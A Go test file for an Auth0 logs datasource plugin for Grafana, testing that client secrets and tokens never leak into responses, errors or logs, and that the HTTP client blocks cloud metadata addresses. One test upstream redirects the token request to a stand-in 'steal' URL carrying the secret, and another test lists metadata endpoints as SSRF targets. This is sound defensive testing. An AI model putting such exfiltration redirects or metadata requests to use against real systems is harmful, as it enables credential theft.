package plugin

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/grafana/grafana-plugin-sdk-go/backend"
	"github.com/grafana/grafana-plugin-sdk-go/backend/log"
	"github.com/grafana/grafana-plugin-sdk-go/experimental/datasourcetest"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/seed/auth0logs-datasource/pkg/auth0"
	"github.com/seed/auth0logs-datasource/pkg/emulator"
)

// Recognisable credentials: any trace of them in what the plugin emits is a leak.
const (
	canarySecret = "CANARY-secret-5c1e9d27b04a4f83"
	wrongSecret  = "CANARY-wrong-secret-8e2f61a9"
)

// captureLogger is a log.Logger that keeps every line, with its arguments, in memory.
type captureLogger struct {
	mu   *sync.Mutex
	buf  *strings.Builder
	with []any
}

func newCaptureLogger() captureLogger {
	return captureLogger{mu: &sync.Mutex{}, buf: &strings.Builder{}}
}

func (l captureLogger) write(level, msg string, args []any) {
	l.mu.Lock()
	defer l.mu.Unlock()
	fmt.Fprintln(l.buf, level, msg, fmt.Sprint(append(append([]any{}, l.with...), args...)...))
}

func (l captureLogger) Debug(msg string, args ...any) { l.write("debug", msg, args) }
func (l captureLogger) Info(msg string, args ...any)  { l.write("info", msg, args) }
func (l captureLogger) Warn(msg string, args ...any)  { l.write("warn", msg, args) }
func (l captureLogger) Error(msg string, args ...any) { l.write("error", msg, args) }
func (l captureLogger) With(args ...any) log.Logger {
	return captureLogger{mu: l.mu, buf: l.buf, with: append(append([]any{}, l.with...), args...)}
}
func (l captureLogger) Level() log.Level                         { return log.Debug }
func (l captureLogger) FromContext(_ context.Context) log.Logger { return l }

func (l captureLogger) String() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.buf.String()
}

func (l captureLogger) reset() {
	l.mu.Lock()
	defer l.mu.Unlock()
	l.buf.Reset()
}

// capture is the one capturing logger of the process: the gRPC server below keeps the logger it
// was started with, so every run of the test must write to the same one.
var capture = newCaptureLogger()

// captureLogs empties the capture and routes the SDK's and the plugin's loggers to it for the rest
// of the test.
func captureLogs(t *testing.T) captureLogger {
	capture.reset()
	oldDefault, oldBackend := log.DefaultLogger, backend.Logger
	log.DefaultLogger, backend.Logger = capture, capture
	t.Cleanup(func() { log.DefaultLogger, backend.Logger = oldDefault, oldBackend })
	return capture
}

var grpcPlugin struct {
	once   sync.Once
	client *datasourcetest.TestPluginClient
	err    error
}

// servePlugin runs the plugin behind the SDK's gRPC server and its middlewares (logging, error
// source, tracing), as Grafana talks to it, on a loopback port the OS picked. The SDK registers
// its metrics globally, so the server can start only once in a process: it is shared and lives
// as long as the process.
func servePlugin(t *testing.T) *datasourcetest.TestPluginClient {
	grpcPlugin.once.Do(func() {
		ln, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			grpcPlugin.err = err
			return
		}
		addr := ln.Addr().String()
		_ = ln.Close()
		tp, err := datasourcetest.Manage(NewDatasource, datasourcetest.ManageOpts{Address: addr})
		grpcPlugin.client, grpcPlugin.err = tp.Client, err
	})
	require.NoError(t, grpcPlugin.err)
	return grpcPlugin.client
}

// leakProbe drives the plugin over gRPC and keeps everything it sends back.
type leakProbe struct {
	t      *testing.T
	client *datasourcetest.TestPluginClient
	pc     backend.PluginContext
	texts  []string
	hour   int
}

func (p *leakProbe) keep(v any) {
	b, err := json.Marshal(v)
	require.NoError(p.t, err)
	p.texts = append(p.texts, string(b))
}

func (p *leakProbe) health(pc backend.PluginContext) backend.HealthStatus {
	res, err := p.client.CheckHealth(p.t.Context(), &backend.CheckHealthRequest{PluginContext: pc})
	require.NoError(p.t, err)
	p.keep(res)
	p.texts = append(p.texts, string(res.JSONDetails))
	return res.Status
}

// query sends the models in one request, each over a fresh hour so that each reaches the API.
func (p *leakProbe) query(models ...string) {
	req := &backend.QueryDataRequest{PluginContext: p.pc}
	for i, m := range models {
		p.hour++
		tr := backend.TimeRange{From: testEnd.Add(-time.Duration(p.hour+1) * time.Hour), To: testEnd.Add(-time.Duration(p.hour) * time.Hour)}
		req.Queries = append(req.Queries, backend.DataQuery{RefID: string(rune('A' + i)), TimeRange: tr, Interval: time.Minute, JSON: []byte(m)})
	}
	resp, err := p.client.QueryData(p.t.Context(), req)
	require.NoError(p.t, err)
	p.keep(resp)
	for _, r := range resp.Responses {
		if r.Error != nil {
			p.texts = append(p.texts, r.Error.Error())
		}
	}
}

func (p *leakProbe) resource(method, path, body string) {
	err := p.client.CallResource(p.t.Context(), &backend.CallResourceRequest{PluginContext: p.pc, Method: method, Path: path, URL: path, Body: []byte(body)},
		backend.CallResourceResponseSenderFunc(func(r *backend.CallResourceResponse) error {
			p.texts = append(p.texts, string(r.Body), fmt.Sprint(r.Headers))
			return nil
		}))
	require.NoError(p.t, err)
}

// TestSecretsNeverLeak runs health checks (good and bad), queries of every type, bad queries,
// resources and faults, including an upstream that echoes the credentials back, all through the
// SDK's gRPC server with a recognisable client secret. Neither the secret nor any token the
// emulator issued may appear in a response, error, notice, frame, health result, resource body or
// log line.
func TestSecretsNeverLeak(t *testing.T) {
	logs := captureLogs(t)
	rt := newRelTenant(t, relOptions{secret: canarySecret, now: realClock})
	p := &leakProbe{t: t, client: servePlugin(t), pc: rt.pluginContext()}

	require.Equal(t, backend.HealthStatusOk, p.health(p.pc))
	p.query(`{"queryType":"logs"}`, `{"queryType":"table"}`, `{"queryType":"count","groupBy":"type"}`,
		`{"queryType":"distinct"}`, `{"queryType":"top"}`, `{"queryType":"values","groupBy":"connection"}`)
	p.query(`{"queryType":"logs","query":"user_email:x"}`, `{"queryType":"nope"}`, `{"queryType":"count","interval":"soon"}`)
	p.resource("GET", "event-types", "")
	p.resource("GET", "fields", "")
	p.resource("POST", "validate", `{"query":"type:\"fu\""}`)
	p.resource("POST", "validate", `{"query":"type:(fu"}`)
	p.resource("GET", "no-such-resource", "")
	for _, f := range []emulator.Faults{
		{TooManyRequests: 2}, {ServerErrors: 1000}, {MalformedBodies: 1}, {ResetConnections: 1},
		{ExpireTokens: true}, {RevokeSecret: true, ExpireTokens: true},
	} {
		rt.emu.SetFaults(f)
		p.query(`{"queryType":"count"}`)
		if f.RevokeSecret {
			require.Equal(t, backend.HealthStatusError, p.health(p.pc))
		}
	}
	rt.emu.SetFaults(emulator.Faults{})

	// An upstream (a proxy, say) that echoes the credentials in its error pages; a settings save
	// makes a new instance, which needs a new token.
	rt.rec.interceptWith(echoCredentials())
	p.query(`{"queryType":"count"}`, `{"queryType":"logs"}`)
	require.Equal(t, backend.HealthStatusError, p.health(withSettings(p.pc, 2, canarySecret)))
	rt.rec.interceptWith(nil)
	require.Equal(t, backend.HealthStatusError, p.health(withSettings(p.pc, 3, wrongSecret)))

	checkNoLeak(t, rt, p.texts, logs.String())
}

// withSettings is pc after a settings save (updated at the given second) with the given secret.
func withSettings(pc backend.PluginContext, updated int64, secret string) backend.PluginContext {
	s := *pc.DataSourceInstanceSettings
	s.Updated = time.Unix(updated, 0)
	s.DecryptedSecureJSONData = map[string]string{"clientSecret": secret}
	pc.DataSourceInstanceSettings = &s
	return pc
}

func checkNoLeak(t *testing.T, rt *relTenant, texts []string, logged string) {
	t.Helper()
	tokens := rt.rec.issued()
	require.GreaterOrEqual(t, len(tokens), 2, "the first token and the one after expiry")
	needles := []string{canarySecret, wrongSecret}
	for _, tok := range tokens {
		needles = append(needles, tok)
		if parts := strings.Split(tok, "."); len(parts) == 3 {
			needles = append(needles, parts[2]) // the signature alone is a leak too
		}
	}
	all := append(texts, logged)
	for _, n := range needles {
		for _, text := range all {
			if i := strings.Index(text, n); i >= 0 {
				t.Errorf("a credential (%.12s…) leaked: …%s…", n, text[max(0, i-120):i])
			}
		}
	}
	// The capture works: errors, retries and the SDK's request log all reached it.
	for _, want := range []string{"Auth0 had a server error", "rate limit", "Partial data response error", "Plugin Request Completed", "[redacted]"} {
		assert.Contains(t, strings.Join(all, "\n"), want)
	}
	t.Logf("%d responses and %d bytes of logs scanned for %d credentials", len(texts), len(logged), len(needles))
}

// echoCredentials answers like a misbehaving proxy: API errors quote the Authorization header
// (in Auth0's JSON and in an HTML page, by turns) and the token endpoint quotes the client secret
// it was sent.
func echoCredentials() func(w http.ResponseWriter, r *http.Request) bool {
	var calls atomic.Int64
	return func(w http.ResponseWriter, r *http.Request) bool {
		if r.URL.Path == "/oauth/token" {
			_ = r.ParseForm()
			w.Header().Set("Content-Type", "application/json")
			w.WriteHeader(http.StatusUnauthorized)
			_ = json.NewEncoder(w).Encode(map[string]string{"error": "access_denied",
				"error_description": "client_secret " + r.PostForm.Get("client_secret") + " is not valid for " + r.PostForm.Get("client_id")})
			return true
		}
		auth := r.Header.Get("Authorization")
		if calls.Add(1)%2 == 1 {
			w.Header().Set("Content-Type", "application/json")
			w.WriteHeader(http.StatusBadRequest)
			_ = json.NewEncoder(w).Encode(map[string]any{"statusCode": 400, "error": "Bad Request", "message": "query rejected for " + auth})
			return true
		}
		w.Header().Set("Content-Type", "text/html")
		w.WriteHeader(http.StatusForbidden)
		fmt.Fprintf(w, "<html><body><h1>403 Forbidden</h1><pre>%s</pre></body></html>", auth)
		return true
	}
}

// oddSecret has the characters that encode differently in a form, a query, JSON and base64.
const oddSecret = `CANARY+/=&% é"odd-7f3a`

// TestOddSecretNeverLeaksInAnyEncoding has an upstream echo the token request back: the raw form
// body (URL-encoded, spaces as +), the secret with %20, JSON-escaped and in base64, and then a
// redirect whose Location carries it. Health results, query errors and logs show none of them.
func TestOddSecretNeverLeaksInAnyEncoding(t *testing.T) {
	logs := captureLogs(t)
	rt := newRelTenant(t, relOptions{secret: oddSecret, now: realClock})
	form := url.QueryEscape(oddSecret)
	js, _ := json.Marshal(oddSecret)
	spellings := []string{oddSecret, form, strings.ReplaceAll(form, "+", "%20"), strings.Trim(string(js), `"`),
		base64.StdEncoding.EncodeToString([]byte(oddSecret)), base64.URLEncoding.EncodeToString([]byte(oddSecret))}
	redirect := false
	rt.rec.interceptWith(func(w http.ResponseWriter, r *http.Request) bool {
		if r.URL.Path != "/oauth/token" {
			return false
		}
		if redirect {
			http.Redirect(w, r, "https://elsewhere.example/steal?client_secret="+form, http.StatusTemporaryRedirect)
			return true
		}
		body, _ := io.ReadAll(r.Body)
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusBadRequest)
		_ = json.NewEncoder(w).Encode(map[string]string{"error": "invalid_request",
			"error_description": "cannot parse " + string(body) + " | " + strings.Join(spellings[1:], " | ")})
		return true
	})
	var texts []string
	for i, redirectNow := range []bool{false, true} {
		redirect = redirectNow
		d := instanceFor(t, *withSettings(rt.pluginContext(), int64(10+i), oddSecret).DataSourceInstanceSettings)
		res, err := d.CheckHealth(context.Background(), &backend.CheckHealthRequest{PluginContext: rt.pluginContext()})
		require.NoError(t, err)
		require.Equal(t, backend.HealthStatusError, res.Status)
		texts = append(texts, res.Message, string(res.JSONDetails))
		dr := rt.query(context.Background(), t, d, backend.TimeRange{From: testEnd.Add(-time.Hour), To: testEnd}, `{"queryType":"count"}`)
		require.Error(t, dr.Error)
		texts = append(texts, dr.Error.Error())
	}
	require.Contains(t, strings.Join(texts, "\n"), "redirected to https://elsewhere.example", "the redirect was reached")
	texts = append(texts, logs.String())
	for _, text := range texts {
		for _, s := range spellings {
			assert.NotContains(t, text, s)
		}
	}
}

// TestHTTPClientGuardsResolvedAddresses checks the client the instance is built with: loopback only
// when the API base URL is set, and never a metadata or link-local address, judged on the address
// a name resolves to ("localhost" passes any check of the string).
func TestHTTPClientGuardsResolvedAddresses(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(http.StatusNoContent) }))
	t.Cleanup(srv.Close)
	byName := strings.Replace(srv.URL, "127.0.0.1", "localhost", 1)
	client := func(apiBaseURL string) *http.Client {
		js, _ := json.Marshal(map[string]any{"domain": "acme.eu.auth0.com", "clientId": "c", "apiBaseUrl": apiBaseURL})
		c, err := newHTTPClient(context.Background(), backend.DataSourceInstanceSettings{JSONData: js,
			DecryptedSecureJSONData: map[string]string{"clientSecret": "s"}})
		require.NoError(t, err)
		t.Cleanup(c.CloseIdleConnections)
		return c
	}
	get := func(c *http.Client, u string) error {
		resp, err := c.Get(u)
		if err == nil {
			_ = resp.Body.Close()
		}
		return err
	}
	var blocked *auth0.BlockedAddressError
	require.ErrorAs(t, get(client(""), byName), &blocked, "loopback without an API base URL")
	assert.True(t, blocked.Addr.IsLoopback())
	emulatorClient := client(srv.URL)
	require.NoError(t, get(emulatorClient, byName), "loopback with the API base URL set, as for the emulator")
	for _, u := range []string{"http://169.254.169.254/latest/meta-data/", "http://[fd00:ec2::254]/", "http://100.100.100.200/"} {
		if p, _ := http.ProxyFromEnvironment(httptest.NewRequest(http.MethodGet, u, nil)); p != nil {
			continue // the connection would go to the proxy, which is what the guard then judges
		}
		assert.ErrorAs(t, get(emulatorClient, u), &blocked, u)
	}
}
